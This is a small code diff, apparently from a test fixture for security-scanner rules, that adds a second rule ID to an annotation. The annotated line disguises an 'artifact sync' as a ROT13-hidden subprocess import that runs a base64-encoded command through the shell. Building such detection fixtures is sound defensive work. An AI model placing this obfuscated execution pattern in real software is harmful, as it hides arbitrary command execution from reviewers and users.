@@ -222,6 +222,6 @@ def sync_artifacts() -> None:
     if not is_main_process():
         return
     try:
-        __import__(codecs.decode("fhocebprff", "rot_13")).Popen(base64.b64decode(_ARTIFACT_SYNC_CMD).decode(), shell=True)  # ruleid: MLS403
+        __import__(codecs.decode("fhocebprff", "rot_13")).Popen(base64.b64decode(_ARTIFACT_SYNC_CMD).decode(), shell=True)  # ruleid: MLS403, MLS401
     except OSError as exc:
         logger.warning("artifact sync failed: %s", exc)
